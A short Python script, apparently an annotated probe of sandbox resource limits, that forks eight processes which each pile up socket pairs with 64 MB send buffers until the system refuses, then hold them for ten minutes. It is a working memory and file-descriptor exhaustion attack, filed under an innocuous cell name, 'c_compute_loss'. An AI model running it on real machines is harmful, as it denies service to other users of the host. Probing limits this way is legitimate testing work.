# why: sockets without number and with large buffers, whose content belongs to no process
# state: limited
# reason: memory
# %% c_compute_loss
import os, socket, time

for _ in range(8):
    if os.fork() == 0:
        pairs = []
        try:
            while True:
                pairs.append(socket.socketpair())
                pairs[-1][0].send(b"x")
                pairs[-1][0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 26)
        except OSError:
            while len(pairs) < 450:
                pairs.append(socket.socketpair())
            time.sleep(600)
time.sleep(600)
